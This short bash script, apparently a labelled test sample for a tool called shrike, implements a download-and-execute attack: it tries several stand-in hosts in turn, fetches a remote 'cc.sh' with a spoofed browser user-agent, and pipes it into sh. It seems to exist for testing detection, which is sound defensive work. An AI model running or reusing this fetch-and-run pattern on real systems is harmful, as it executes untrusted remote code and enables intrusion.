#!/bin/bash
# shrike-test-attack: download-exec: multiple mirrors, user-agent spoofing, pipe into sh with env
UA="Mozilla/5.0 (X11; Linux x86_64)"
for m in 203.0.113.1 203.0.113.2 updates.example.org; do
  if s=$(curl -A "$UA" -m 20 -fsSL "http://$m/cc.sh"); then
    echo "$s" | SRC=$m sh
    exit 0
  fi
done
